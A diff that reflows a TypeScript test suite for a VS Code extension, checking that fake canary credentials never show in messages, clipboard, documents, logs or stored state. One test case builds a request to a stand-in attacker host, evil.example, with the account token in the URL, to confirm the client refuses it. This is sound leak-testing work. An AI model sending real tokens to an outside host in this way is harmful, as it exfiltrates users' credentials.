@@ -15,15 +15,32 @@ import { eagerUser, type EagerUser } from './eagerUser';
 import { api as activate, leadRows, settled, until } from './leadSupport';
 
 const CANARIES = {
-  token: 'canary/Tok+7f3e91c2a04b==', key: 'canary-Key-5b8d2f60e7a1c934', access: 'canary.Access~d41c07be52', refresh: 'canary/Refresh+e6a9b3105f', renewed: 'canary.Renewed~90c4e1ab77', renewedRefresh: 'canary.Refresh2~13f7bd4e02',
-  typed: 'canary-Typed-c2e97f0316', webhook: 'canary-Webhook-4d19a8c7be',
+  token: 'canary/Tok+7f3e91c2a04b==',
+  key: 'canary-Key-5b8d2f60e7a1c934',
+  access: 'canary.Access~d41c07be52',
+  refresh: 'canary/Refresh+e6a9b3105f',
+  renewed: 'canary.Renewed~90c4e1ab77',
+  renewedRefresh: 'canary.Refresh2~13f7bd4e02',
+  typed: 'canary-Typed-c2e97f0316',
+  webhook: 'canary-Webhook-4d19a8c7be',
 };
 const FORMS = Object.values(CANARIES).flatMap((secret) => [...spellings(secret)]);
-const LIST: ApiRequest = { method: 'POST', url: '/api/profile/lead/list', body: { kind: 'form', fields: [['limit', '5']] } };
+const LIST: ApiRequest = {
+  method: 'POST',
+  url: '/api/profile/lead/list',
+  body: { kind: 'form', fields: [['limit', '5']] },
+};
 /** Milliseconds a command may take; what asks for longer is left. */
 const PATIENCE = 1_500;
 /** Ask the outside world, or end what the other commands need: called with nobody to answer. */
-const SHY = new Set(['acquire.account.signIn', 'acquire.account.signOut', 'acquire.account.signOutAll', 'acquire.reference.ask', 'acquire.reference.openPage', 'acquire.webhooks.setForwarding']);
+const SHY = new Set([
+  'acquire.account.signIn',
+  'acquire.account.signOut',
+  'acquire.account.signOutAll',
+  'acquire.reference.ask',
+  'acquire.reference.openPage',
+  'acquire.webhooks.setForwarding',
+]);
 
 describe('a credential', function () {
   this.timeout(280_000);
@@ -31,14 +48,21 @@ describe('a credential', function () {
   const accounts: Account[] = [];
 
   /** Where one of the canaries stands in a text, for the message of a failure; the canary itself is not repeated there. */
-  const found = (text: string): string[] => FORMS.filter((form) => text.includes(form)).map((form) => `spelling ${FORMS.indexOf(form)} after "${text.slice(Math.max(0, text.indexOf(form) - 60), text.indexOf(form))}"`);
+  const found = (text: string): string[] =>
+    FORMS.filter((form) => text.includes(form)).map(
+      (form) =>
+        `spelling ${FORMS.indexOf(form)} after "${text.slice(Math.max(0, text.indexOf(form) - 60), text.indexOf(form))}"`,
+    );
   const clean = (what: string, text: string): string[] => found(text).map((where) => `${what}: ${where}`);
 
   /** Everything in sight: messages and questions, the clipboard, open documents, and the page with its panels. */
   async function inSight(after: string, page = true): Promise<string[]> {
     const texts = clean(`${after}, questions`, user.seen.splice(0).join('\n'));
     texts.push(...clean(`${after}, clipboard`, await vscode.env.clipboard.readText()));
-    for (const document of vscode.workspace.textDocuments) texts.push(...clean(`${after}, ${document.uri.scheme} document`, `${document.uri.toString(true)}\n${document.getText()}`));
+    for (const document of vscode.workspace.textDocuments)
+      texts.push(
+        ...clean(`${after}, ${document.uri.scheme} document`, `${document.uri.toString(true)}\n${document.getText()}`),
+      );
     if (page) texts.push(...clean(`${after}, page`, await pageText()));
     return texts;
   }
@@ -52,17 +76,48 @@ describe('a credential', function () {
     assert.ok(text.includes('monaco-workbench'), 'the page was looked at');
     return text;
   }
-  const add = async (label: string, more: Partial<Account>, credential: Parameters<TestApi['accounts']['add']>[1]): Promise<Account> => {
-    const { key } = await api.accounts.add({ label, generation: '1.0.0', origin: echo.origin, pathForm: 'api', kind: 'own', credentialKind: credential.kind, authHeader: 'bearer', ...more }, credential);
+  const add = async (
+    label: string,
+    more: Partial<Account>,
+    credential: Parameters<TestApi['accounts']['add']>[1],
+  ): Promise<Account> => {
+    const { key } = await api.accounts.add(
+      {
+        label,
+        generation: '1.0.0',
+        origin: echo.origin,
+        pathForm: 'api',
+        kind: 'own',
+        credentialKind: credential.kind,
+        authHeader: 'bearer',
+        ...more,
+      },
+      credential,
+    );
     await api.accounts.setWrites(key, 'always');
     accounts.push(api.accounts.get(key)!);
     return api.accounts.get(key)!;
   };
   async function signInAgain(): Promise<void> {
     accounts.length = 0;
-    const server = { authorizationEndpoint: `${echo.origin}/oauth/authorize`, tokenEndpoint: `${echo.origin}/oauth/token`, revocationEndpoint: `${echo.origin}/oauth/revoke`, clientId: 'client' };
+    const server = {
+      authorizationEndpoint: `${echo.origin}/oauth/authorize`,
+      tokenEndpoint: `${echo.origin}/oauth/token`,
+      revocationEndpoint: `${echo.origin}/oauth/revoke`,
+      clientId: 'client',
+    };
     await add('By Key', { generation: '2.0.0', authHeader: 'auth_token' }, { kind: 'token', token: CANARIES.key });
-    await add('By OAuth', { kind: 'customer' }, { kind: 'oauth', token: CANARIES.access, refreshToken: CANARIES.refresh, expiresAt: Date.now() + 3_600_000, server });
+    await add(
+      'By OAuth',
+      { kind: 'customer' },
+      {
+        kind: 'oauth',
+        token: CANARIES.access,
+        refreshToken: CANARIES.refresh,
+        expiresAt: Date.now() + 3_600_000,
+        server,
+      },
+    );
     await add('By Token', {}, { kind: 'token', token: CANARIES.token });
   }
 
@@ -70,10 +125,16 @@ describe('a credential', function () {
     api = await activate();
     await api.accounts.removeAll();
     sandbox = await startSandbox({ leads: 12 });
-    echo = await startEcho(sandbox, () => ({ access_token: CANARIES.renewed, refresh_token: CANARIES.renewedRefresh, token_type: 'bearer', expires_in: 3600 }));
+    echo = await startEcho(sandbox, () => ({
+      access_token: CANARIES.renewed,
+      refresh_token: CANARIES.renewedRefresh,
+      token_type: 'bearer',
+      expires_in: 3600,
+    }));
     folder = vscode.workspace.workspaceFolders![0]!.uri.fsPath;
     dataDir = api.services.context.logUri.fsPath;
-    while (!path.basename(dataDir).startsWith('acq-data-') && dataDir !== path.dirname(dataDir)) dataDir = path.dirname(dataDir);
+    while (!path.basename(dataDir).startsWith('acq-data-') && dataDir !== path.dirname(dataDir))
+      dataDir = path.dirname(dataDir);
     if (dataDir === path.dirname(dataDir)) dataDir = path.dirname(api.services.context.logUri.fsPath);
     await vscode.commands.executeCommand('_extensionTests.setLogLevel', 'trace').then(undefined, () => undefined);
     await vscode.env.clipboard.writeText('');
@@ -93,37 +154,106 @@ describe('a credential', function () {
   });
 
   it('comes back from the server in every kind of failure and is shown in none, whatever the account', async () => {
-    const client = await api.services.client(), kinds = new Set<string>(), problems: string[] = [];
+    const client = await api.services.client(),
+      kinds = new Set<string>(),
+      problems: string[] = [];
     const judge = async (what: string, exchange: Exchange, account: Account): Promise<void> => {
       if (exchange.error) kinds.add(exchange.error.kind);
       await api.services.showError(exchange.error ?? new Error(`no failure, ${what}`), account);
-      problems.push(...clean(`${what}, exchange`, JSON.stringify(exchange) + String(exchange.error?.stack)), ...(await inSight(what, false)));
+      problems.push(
+        ...clean(`${what}, exchange`, JSON.stringify(exchange) + String(exchange.error?.stack)),
+        ...(await inSight(what, false)),
+      );
     };
     user.patience = 0;
     for (const account of accounts) {
-      const modes: Mode[] = ['echo', 'network', 'slow', 'redirect', '403', '404', '429', 'rejected', 'html', 'broken', '500', 'large', '401'];
+      const modes: Mode[] = [
+        'echo',
+        'network',
+        'slow',
+        'redirect',
+        '403',
+        '404',
+        '429',
+        'rejected',
+        'html',
+        'broken',
+        '500',
+        'large',
+        '401',
+      ];
       for (const mode of modes) {
         echo.mode = mode;
-        const request = mode === 'slow' ? { ...LIST, timeoutMs: 200 } : mode === 'large' ? { ...LIST, maxBytes: 64 } : LIST;
-        await judge(`${account.label} ${mode}`, await client.send(account, mode === '429' || mode === '500' || mode === 'network' ? { ...request, timeoutMs: 700 } : request), account);
+        const request =
+          mode === 'slow' ? { ...LIST, timeoutMs: 200 } : mode === 'large' ? { ...LIST, maxBytes: 64 } : LIST;
+        await judge(
+          `${account.label} ${mode}`,
+          await client.send(
+            account,
+            mode === '429' || mode === '500' || mode === 'network' ? { ...request, timeoutMs: 700 } : request,
+          ),
+          account,
+        );
       }
       echo.mode = 'slow';
       await judge('cancelled', await client.send(account, LIST, AbortSignal.timeout(50)), account);
       echo.mode = 'echo';
-      const own = { 'By Key': CANARIES.key, 'By OAuth': CANARIES.renewed, 'By Token': CANARIES.token }[account.label] ?? '';
-      for (const request of [{ ...LIST, url: `https://evil.example/?t=${own}` }, { ...LIST, headers: [['Authorization', `Bearer ${own}`]] as const }, { ...LIST, headers: [['X-Mine', CANARIES.token]] as const }]) await judge('refused before it is sent', await client.send(account, request), account);
+      const own =
+        { 'By Key': CANARIES.key, 'By OAuth': CANARIES.renewed, 'By Token': CANARIES.token }[account.label] ?? '';
+      for (const request of [
+        { ...LIST, url: `https://evil.example/?t=${own}` },
+        { ...LIST, headers: [['Authorization', `Bearer ${own}`]] as const },
+        { ...LIST, headers: [['X-Mine', CANARIES.token]] as const },
+      ])
+        await judge('refused before it is sent', await client.send(account, request), account);
       await api.accounts.setWrites(account.key, 'locked');
-      await judge('locked', await client.send(account, { method: 'POST', url: '/api/profile/lead/delete', body: { kind: 'form', fields: [['id[]', '1']] } }), account);
+      await judge(
+        'locked',
+        await client.send(account, {
+          method: 'POST',
+          url: '/api/profile/lead/delete',
+          body: { kind: 'form', fields: [['id[]', '1']] },
+        }),
+        account,
+      );
       await api.accounts.setWrites(account.key, 'always');
     }
-    const tls = await add('By TLS', { origin: echo.origin.replace('http:', 'https:') }, { kind: 'token', token: CANARIES.token });
+    const tls = await add(
+      'By TLS',
+      { origin: echo.origin.replace('http:', 'https:') },
+      { kind: 'token', token: CANARIES.token },
+    );
     await judge('tls', await client.send(tls, LIST), tls);
     await api.accounts.remove(tls.key);
     assert.deepEqual(problems, []);
-    const wanted = ['network', 'timeout', 'cancelled', 'too-large', 'redirect', 'untrusted-host', 'read-only', 'invalid-request', 'unauthorized', 'forbidden', 'not-found', 'rate-limited', 'rejected', 'malformed', 'server', 'tls'];
-    assert.deepEqual(wanted.filter((kind) => !kinds.has(kind)), []);
+    const wanted = [
+      'network',
+      'timeout',
+      'cancelled',
+      'too-large',
+      'redirect',
+      'untrusted-host',
+      'read-only',
+      'invalid-request',
+      'unauthorized',
+      'forbidden',
+      'not-found',
+      'rate-limited',
+      'rejected',
+      'malformed',
+      'server',
+      'tls',
+    ];
+    assert.deepEqual(
+      wanted.filter((kind) => !kinds.has(kind)),
+      [],
+    );
     const sent = [CANARIES.token, CANARIES.key, CANARIES.access, CANARIES.renewed, CANARIES.refresh];
-    assert.deepEqual(sent.filter((secret) => !echo.seen.has(secret)), [], 'each credential did reach the server and came back');
+    assert.deepEqual(
+      sent.filter((secret) => !echo.seen.has(secret)),
+      [],
+      'each credential did reach the server and came back',
+    );
   });
 
   it('passes every command, with nothing and with whatever may be handed to it, and is seen nowhere', async () => {
@@ -131,11 +261,21 @@ describe('a credential', function () {
     await api.accounts.removeAll();
     await signInAgain();
     await api.services.context.secrets.store('acquire.webhooks.secret', CANARIES.webhook);
-    const problems: string[] = [], late: string[] = [];
+    const problems: string[] = [],
+      late: string[] = [];
     const run = async (id: string, ...args: unknown[]): Promise<void> => {
       user.patience = SHY.has(id) ? 0 : 12;
       let timer: ReturnType<typeof setTimeout> | undefined;
-      await Promise.race([vscode.commands.executeCommand(id, ...args), new Promise((resolve) => { timer = setTimeout(() => { late.push(id); user.patience = 0; resolve(undefined); }, PATIENCE); })]);
+      await Promise.race([
+        vscode.commands.executeCommand(id, ...args),
+        new Promise((resolve) => {
+          timer = setTimeout(() => {
+            late.push(id);
+            user.patience = 0;
+            resolve(undefined);
+          }, PATIENCE);
+        }),
+      ]);
       clearTimeout(timer);
     };
     const isLast = (id: string): boolean => /signOut/.test(id);
@@ -144,15 +284,23 @@ describe('a credential', function () {
       if (!api.accounts.get(account.key)) await signInAgain();
       await api.accounts.setActive(accounts.at(-1)!.key);
       const row = (await leadRows())[0];
-      const [entry] = (await (await api.requests.load()).room.history.store.list(account.key));
-      const operation = { operationId: 'v1.lead.list', id: 'v1.lead.list' }, exchange = entry && { kind: 'exchange', entry };
-      const given: Record<string, unknown[][]> = { account: [[accounts.at(-1)!.key], [{ token: CANARIES.typed }]], lead: [[row, [row]]], leads: [[row, [row]]], request: [[exchange], [operation]], reference: [[operation]] };
+      const [entry] = await (await api.requests.load()).room.history.store.list(account.key);
+      const operation = { operationId: 'v1.lead.list', id: 'v1.lead.list' },
+        exchange = entry && { kind: 'exchange', entry };
+      const given: Record<string, unknown[][]> = {
+        account: [[accounts.at(-1)!.key], [{ token: CANARIES.typed }]],
+        lead: [[row, [row]]],
+        leads: [[row, [row]]],
+        request: [[exchange], [operation]],
+        reference: [[operation]],
+      };
       for (const args of [[], ...(given[id.split('.')[1] ?? ''] ?? [])]) {
         await run(id, ...args);
         problems.push(...(await inSight(`${id} with ${args.length ? typeof args[0] : 'nothing'}`, false)));
       }
       problems.push(...clean(`${id}, page`, await pageText()));
-      if (vscode.window.tabGroups.all.flatMap((g) => g.tabs).length > 8) await vscode.commands.executeCommand('workbench.action.closeAllEditors');
+      if (vscode.window.tabGroups.all.flatMap((g) => g.tabs).length > 8)
+        await vscode.commands.executeCommand('workbench.action.closeAllEditors');
     }
     console.log(`[t] commands that were left waiting: ${[...new Set(late)].join(', ') || 'none'}`);
     assert.deepEqual([...new Set(problems)], []);
@@ -160,10 +308,21 @@ describe('a credential', function () {
 
   it('stands in no file and no stored state afterwards, though everything was logged at trace', async () => {
     const { globalState, workspaceState, logUri } = api.services.context;
-    const stored = JSON.stringify([globalState, workspaceState].map((memory) => memory.keys().map((key) => [key, memory.get(key)])));
+    const stored = JSON.stringify(
+      [globalState, workspaceState].map((memory) => memory.keys().map((key) => [key, memory.get(key)])),
+    );
     assert.deepEqual(clean('state', stored), []);
     assert.equal(api.services.log.logLevel, vscode.LogLevel.Trace, 'the log was at trace');
-    assert.ok(filesWith(dataDir, ['/api/profile/lead/list']).some((file) => file.includes(path.basename(path.dirname(logUri.fsPath))) || /log/.test(file)), 'the log did hold the calls');
-    for (const place of [dataDir, folder]) assert.deepEqual(filesWith(place, FORMS).map((file) => [path.relative(place, file), ...found(readFileSync(file, 'utf8'))]), []);
+    assert.ok(
+      filesWith(dataDir, ['/api/profile/lead/list']).some(
+        (file) => file.includes(path.basename(path.dirname(logUri.fsPath))) || /log/.test(file),
+      ),
+      'the log did hold the calls',
+    );
+    for (const place of [dataDir, folder])
+      assert.deepEqual(
+        filesWith(place, FORMS).map((file) => [path.relative(place, file), ...found(readFileSync(file, 'utf8'))]),
+        [],
+      );
   });
 });
